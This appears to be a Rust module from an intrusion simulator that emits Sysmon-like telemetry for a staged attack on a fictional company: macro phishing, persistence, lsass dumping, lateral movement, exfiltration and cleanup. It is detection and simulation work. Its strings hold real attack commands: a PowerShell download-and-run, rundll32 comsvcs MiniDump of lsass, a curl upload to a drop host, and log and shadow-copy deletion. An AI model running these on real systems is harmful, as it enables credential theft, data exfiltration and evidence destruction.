//! The intrusion: from a mail attachment to the file server, one stage at a time.
//!
//! Any stage can be played on any host, so that the day before and the live run share them.
use super::{
    company::{self as c, Binary, C2, DELIVERY, DOMAIN, DROP, hashes},
    machine::Proc,
    noise::attachment,
    scene::{Scene, World},
    services::load_driver,
};
use crate::event::Time;
use std::{collections::HashMap, sync::Arc};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stage {
    /// A document from a mail runs a macro, which downloads and starts the implant.
    Phish,
    /// Run key, scheduled task, WMI subscription.
    Persist,
    Discover,
    /// Reads the memory of lsass and dumps it.
    Credentials,
    /// From `from` to the host, by a remote service.
    Service,
    /// From `from` to the host, by WMI.
    Wmi,
    /// Packs the shares into an archive.
    Collect,
    /// Uploads the archive.
    Exfiltrate,
    /// Deletes traces.
    Clean,
    /// The implant ends.
    Leave,
}

#[derive(Debug, Clone, Copy)]
pub struct Step {
    pub stage: Stage,
    pub host: usize,
    pub from: usize,
}

/// Where the implant runs at present.
#[derive(Debug, Default)]
pub struct Story {
    implants: HashMap<usize, Proc>,
}

/// One intrusion: its steps, each with its time in units after the beginning. `hosts`: the reader of the mail, two
/// hosts that he reaches from there, a file server, and one more.
pub fn plan([first, second, third, server, last]: [usize; 5]) -> Vec<(i64, Step)> {
    let step = |at, stage, host, from| (at, Step { stage, host, from });
    vec![
        step(0, Stage::Phish, first, first),
        step(6, Stage::Persist, first, first),
        step(10, Stage::Discover, first, first),
        step(15, Stage::Credentials, first, first),
        step(20, Stage::Service, second, first),
        step(24, Stage::Wmi, third, first),
        step(27, Stage::Persist, third, third),
        step(31, Stage::Service, server, second),
        step(34, Stage::Credentials, second, second),
        step(38, Stage::Wmi, last, third),
        step(42, Stage::Collect, server, server),
        step(47, Stage::Exfiltrate, server, server),
        step(52, Stage::Clean, server, server),
        step(55, Stage::Clean, first, first),
    ]
}

impl Story {
    /// Whether the implant runs on the host.
    pub fn holds(&self, host: usize) -> bool {
        self.implants.contains_key(&host)
    }

    pub fn play(&mut self, world: &mut World, at: Time, step: Step) {
        if step.stage == Stage::Phish {
            let implant = phish(&mut world.scene(step.host, at));
            self.implants.insert(step.host, implant);
            return;
        }
        let Some(actor) = self.implants.get(&step.from).cloned() else { return };
        match step.stage {
            Stage::Service | Stage::Wmi => {
                let implant = if step.stage == Stage::Service {
                    by_service(world, at, step, &actor)
                } else {
                    by_wmi(world, at, step, &actor)
                };
                self.implants.insert(step.host, implant);
            }
            stage => {
                let mut scene = world.scene(step.host, at);
                match stage {
                    Stage::Persist => persist(&mut scene, &actor),
                    Stage::Discover => discover(&mut scene, &actor),
                    Stage::Credentials => credentials(&mut scene, &actor),
                    Stage::Collect => collect(&mut scene, &actor),
                    Stage::Exfiltrate => exfiltrate(&mut scene, &actor),
                    Stage::Clean => clean(&mut scene, &actor),
                    _ => {
                        scene.end(&actor);
                        self.implants.remove(&step.host);
                    }
                }
            }
        }
    }

    /// The implant calls home.
    pub fn beacon(&self, world: &mut World, at: Time, host: usize) {
        if let Some(implant) = self.implants.get(&host) {
            world.scene(host, at).visit(implant, C2, 443);
        }
    }
}

const DOCUMENT: &str = "Overdue_invoice_4471.docm";
const TASK: &str = "Office Cache Sync";
const ARCHIVE: &str = r"C:\ProgramData\PackageCache\q3.7z";
const DUMP: &str = r"C:\Windows\Temp\dbg7731.tmp";

fn phish(s: &mut Scene<'_>) -> Proc {
    let outlook = s.standing("outlook");
    let document = attachment(s, DOCUMENT);
    s.create(&outlook, &document);
    s.mark(&outlook, &document, "https://mail.hollowbrook.example/attachment");
    let word = s.spawn(&outlook, &c::WORD, &format!("\"{}\" /n \"{document}\"", c::WORD.path));
    s.load(&word, &c::VBE);
    s.load(&word, &c::WMIUTILS);
    s.wait(300..900);
    let temporary = format!(r"{}\AppData\Local\Temp\hb_sync.exe", s.machine().home());
    let shell = s.spawn(&word, &c::POWERSHELL, &format!(
        "powershell.exe -NoP -W Hidden -Ep Bypass -C \"iwr http://{}/u/4471 -OutFile $env:TEMP\\hb_sync.exe; start $env:TEMP\\hb_sync.exe\"",
        DELIVERY.0
    ));
    s.load(&shell, &c::AUTOMATION);
    s.load(&shell, &c::AMSI);
    let marker = format!(r"{}\AppData\Local\Temp\__PSScriptPolicyTest_{}.ps1", s.machine().home(), s.hex(8));
    s.create(&shell, &marker);
    s.visit(&shell, DELIVERY, 80);
    s.drop_executable(&shell, &temporary, &c::IMPLANT);
    s.wait(100..600);
    let user = s.machine().user.clone();
    let loader = s.spawn_as(&shell, &c::IMPLANT, &temporary, &format!("\"{temporary}\""), &user);
    s.drop_executable(&loader, c::IMPLANT.path, &c::IMPLANT);
    let implant = s.spawn(&loader, &c::IMPLANT, &format!("{} -k", c::IMPLANT.path));
    s.end(&loader);
    s.end(&shell);
    s.load(&implant, &c::WININET);
    s.act(25, &implant, &[("Type", "Image is replaced")]);
    s.visit(&implant, C2, 443);
    let explorer = s.standing("explorer");
    inject(s, &implant, &explorer);
    s.delete(&implant, &temporary, c::IMPLANT.path, true);
    implant
}

fn inject(s: &mut Scene<'_>, from: &Proc, into: &Proc) {
    s.open(from, into, "0x1fffff", "UNKNOWN(000001C7A4E20F13)");
    let thread = (into.pid + 3120).to_string();
    s.reach(8, from, into, &[("NewThreadId", &thread), ("StartAddress", "0x000001C7A4E20000")]);
}

fn persist(s: &mut Scene<'_>, implant: &Proc) {
    let run = if implant.account.session == 0 { "HKLM".to_owned() } else { s.machine().hive() };
    s.set(implant, &format!(r"{run}\Software\Microsoft\Windows\CurrentVersion\Run\WuAuxSync"), c::IMPLANT.path);
    let command = format!("schtasks.exe /create /f /sc minute /mo 30 /tn \"{TASK}\" /tr {}", c::IMPLANT.path);
    s.run(implant, &c::SCHTASKS, &command);
    let schedule = s.standing("schedule");
    let cache = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache";
    s.create(&schedule, &format!(r"C:\Windows\System32\Tasks\{TASK}"));
    s.key(&schedule, "CreateKey", &format!(r"{cache}\Tree\{TASK}"));
    let id = format!("{{{}}}", s.hex(8));
    s.set(&schedule, &format!(r"{cache}\Tree\{TASK}\Id"), &id);
    let user = implant.account.name.clone();
    s.emit(
        19,
        &[
            ("EventType", "WmiFilterEvent"),
            ("Operation", "Created"),
            ("User", &user),
            ("EventNamespace", r#""root\\subscription""#),
            ("Name", r#""WuAuxWatch""#),
            (
                "Query",
                r#""SELECT * FROM __InstanceModificationEvent WITHIN 600 WHERE TargetInstance ISA 'Win32_LocalTime'""#,
            ),
        ],
    );
    s.emit(
        20,
        &[
            ("EventType", "WmiConsumerEvent"),
            ("Operation", "Created"),
            ("User", &user),
            ("Name", r#""WuAuxStart""#),
            ("Type", "Command Line"),
            ("Destination", &format!("\"{}\"", c::IMPLANT.path.replace('\\', r"\\"))),
        ],
    );
    s.emit(
        21,
        &[
            ("EventType", "WmiBindingEvent"),
            ("Operation", "Created"),
            ("User", &user),
            ("Consumer", r#""CommandLineEventConsumer.Name=\"WuAuxStart\"""#),
            ("Filter", r#""__EventFilter.Name=\"WuAuxWatch\"""#),
        ],
    );
}

fn discover(s: &mut Scene<'_>, implant: &Proc) {
    let shell = s.spawn(implant, &c::CMD, "cmd.exe /q /c whoami & net & nltest & ipconfig");
    let commands: [(&'static Binary, &str); 4] = [
        (&c::WHOAMI, "whoami /all"),
        (&c::NET, "net  group \"Domain Admins\" /domain"),
        (&c::NLTEST, "nltest  /dclist:hollowbrook"),
        (&c::IPCONFIG, "ipconfig  /all"),
    ];
    for (binary, command) in commands {
        s.run(&shell, binary, command);
    }
    s.lookup(implant, &format!("hbi-fs01.{DOMAIN}"), Some("10.20.8.12"));
    s.lookup(implant, &format!("hbi-fs09.{DOMAIN}"), None);
    s.end(&shell);
}

fn credentials(s: &mut Scene<'_>, implant: &Proc) {
    let lsass = s.standing("lsass");
    let services = s.standing("services");
    s.create(&services, c::EVILDRIVER.path);
    load_driver(s, &c::EVILDRIVER, false);
    s.open(implant, &lsass, "0x1010", "UNKNOWN(000001C7A4E31B80)");
    let system = s.machine().system.clone();
    let command = format!("rundll32.exe {}, MiniDump {} {DUMP} full", c::COMSVCS.path, lsass.pid);
    let p = s.spawn_as(implant, &c::RUNDLL32, c::RUNDLL32.path, &command, &system);
    s.load(&p, &c::COMSVCS);
    s.load(&p, &c::DBGHELP);
    s.open(&p, &lsass, "0x1fffff", r"C:\Windows\System32\dbgcore.dll+6c1f|C:\Windows\System32\comsvcs.dll+26c80");
    s.create(&p, DUMP);
    s.end(&p);
    s.act(9, implant, &[("Device", r"\Device\HarddiskVolume3")]);
    s.wait(200..1_200);
    s.delete(implant, DUMP, "lsass-dump.tmp", true);
}

/// The two ends of a connection: name and address.
fn ends(world: &World, step: Step) -> [(String, String); 2] {
    [step.from, step.host].map(|i| {
        let host = &world.machines[i % world.machines.len()].host;
        (host.name.clone(), host.ip.clone())
    })
}

fn by_service(world: &mut World, at: Time, step: Step, actor: &Proc) -> Proc {
    let [from, to] = ends(world, step);
    let short = to.0.split('.').next().unwrap_or_default().to_owned();
    let mut s = world.scene(step.from, at);
    s.lookup(actor, &to.0, Some(&to.1));
    s.connect(actor, (&to.0, &to.1), 445);
    let create = format!(r"sc.exe \\{short} create WuAuxSvc binPath= {} start= auto", c::IMPLANT.path);
    s.run(actor, &c::SC, &create);
    s.run(actor, &c::SC, &format!(r"sc.exe \\{short} start WuAuxSvc"));
    let now = s.now;

    let mut s = world.scene(step.host, now);
    let (system, services) = (s.standing("System"), s.standing("services"));
    s.accept(&system, (&from.0, &from.1), 445);
    s.connect_pipe(&system, r"\svcctl");
    s.drop_executable(&system, c::IMPLANT.path, &c::IMPLANT);
    let key = r"HKLM\System\CurrentControlSet\Services\WuAuxSvc";
    s.key(&services, "CreateKey", key);
    s.set(&services, &format!(r"{key}\ImagePath"), c::IMPLANT.path);
    s.set(&services, &format!(r"{key}\Start"), "DWORD (0x00000002)");
    let account = s.machine().system.clone();
    landed(&mut s, &services, &account)
}

fn by_wmi(world: &mut World, at: Time, step: Step, actor: &Proc) -> Proc {
    let [from, to] = ends(world, step);
    let short = to.0.split('.').next().unwrap_or_default().to_owned();
    let mut s = world.scene(step.from, at);
    s.connect(actor, (&to.0, &to.1), 445);
    let remote = format!(r"\\{short}\c$\Users\Public\Libraries\wuauxsync.exe");
    s.create(actor, &remote);
    let command = format!("wmic.exe /node:{short} process call create \"cmd.exe /q /c {} -k\"", c::IMPLANT.path);
    let wmic = s.spawn(actor, &c::WMIC, &command);
    s.connect(&wmic, (&to.0, &to.1), 135);
    s.wait(200..600);
    s.end(&wmic);
    let now = s.now;

    let mut s = world.scene(step.host, now);
    let (system, dcom, provider) = (s.standing("System"), s.standing("dcom"), s.standing("wmi"));
    s.accept(&system, (&from.0, &from.1), 445);
    s.drop_executable(&system, c::IMPLANT.path, &c::IMPLANT);
    s.accept(&dcom, (&from.0, &from.1), 135);
    let account = s.machine().system.clone();
    let command = format!("cmd.exe /q /c {} -k", c::IMPLANT.path);
    let shell = s.spawn_as(&provider, &c::CMD, c::CMD.path, &command, &account);
    landed(&mut s, &shell, &account)
}

/// The implant starts on a host that was reached over the network.
fn landed(s: &mut Scene<'_>, parent: &Proc, account: &Arc<super::machine::Account>) -> Proc {
    let implant = s.spawn_as(parent, &c::IMPLANT, c::IMPLANT.path, &format!("{} -k", c::IMPLANT.path), account);
    s.load(&implant, &c::WININET);
    let pipe = format!(r"\wuaux-{}", s.hex(4));
    s.create_pipe(&implant, &pipe);
    let system = s.standing("System");
    s.connect_pipe(&system, &pipe);
    s.visit(&implant, C2, 443);
    implant
}

fn collect(s: &mut Scene<'_>, implant: &Proc) {
    let shell = s.spawn(implant, &c::CMD, r"cmd.exe /q /c C:\ProgramData\PackageCache\pack.cmd");
    let pack = s.spawn(
        &shell,
        &c::SEVENZIP,
        &format!(r#""{}" a -mx1 -pTr4wler! {ARCHIVE} D:\Shares\finance"#, c::SEVENZIP.path),
    );
    s.create(&pack, ARCHIVE);
    s.wait(1_500..4_000);
    s.end(&pack);
    s.end(&shell);
    let text = s.hex(8);
    s.act(24, implant, &[("Session", "0"), ("Hashes", &hashes(&text)), ("Archived", "true")]);
}

fn exfiltrate(s: &mut Scene<'_>, implant: &Proc) {
    let command = format!("curl.exe -s -T {ARCHIVE} https://{}/in/", DROP.0);
    let curl = s.spawn(implant, &c::CURL, &command);
    s.visit(&curl, DROP, 443);
    s.wait(1_000..3_000);
    s.end(&curl);
    s.delete(implant, ARCHIVE, "q3.7z", false);
}

fn clean(s: &mut Scene<'_>, implant: &Proc) {
    let earlier = Time(s.now.0 - 400 * 86_400_000).sysmon();
    let now = s.now.sysmon();
    s.act(
        2,
        implant,
        &[("TargetFilename", c::IMPLANT.path), ("CreationUtcTime", &earlier), ("PreviousCreationUtcTime", &now)],
    );
    for log in ["Security", "System", "\"Windows PowerShell\""] {
        s.run(implant, &c::WEVTUTIL, &format!("wevtutil.exe cl {log}"));
    }
    s.run(implant, &c::VSSADMIN, "vssadmin.exe delete shadows /all /quiet");
    s.delete(implant, r"C:\ProgramData\PackageCache\pack.cmd", "pack.cmd", true);
    s.act(
        28,
        implant,
        &[
            ("TargetFilename", r"C:\ProgramData\PackageCache\list.txt"),
            ("Hashes", &hashes("list.txt")),
            ("IsExecutable", "false"),
        ],
    );
    let task = format!(r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree\{TASK}");
    let schedule = s.standing("schedule");
    s.key(&schedule, "DeleteKey", &task);
}
